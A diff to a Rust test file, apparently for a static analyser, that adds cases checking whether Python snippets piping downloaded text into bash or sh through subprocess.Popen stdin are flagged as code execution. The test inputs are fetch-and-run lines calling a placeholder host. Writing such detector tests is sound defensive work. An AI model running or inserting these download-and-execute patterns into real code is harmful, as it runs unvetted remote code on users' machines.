@@ -313,6 +313,20 @@ fn code_fed_to_a_shell_on_stdin_is_run() {
     assert!(run(
         "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\nsubprocess.run(['bash'], input=s)\n"
     ));
+    let popen = |src: &str| {
+        flows_of(src)
+            .into_iter()
+            .any(|f| f.sink == SinkKind::Exec && f.call.starts_with("subprocess.Popen."))
+    };
+    assert!(popen(
+        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\np = subprocess.Popen(['sh', '-s'], stdin=subprocess.PIPE)\np.communicate(s.encode())\n"
+    ));
+    assert!(popen(
+        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\np = subprocess.Popen('bash', stdin=subprocess.PIPE)\np.stdin.write(s)\n"
+    ));
+    assert!(!popen(
+        "import subprocess, requests\ns = requests.get('http://x.example/a').text\np = subprocess.Popen(['sort'], stdin=subprocess.PIPE)\np.communicate(s)\n"
+    ));
     // Data a script reads on its stdin is not code.
     assert!(!run(
         "import subprocess, requests\ns = requests.get('http://x.example/a').text\nsubprocess.run(['bash', 'job.sh'], input=s)\n"
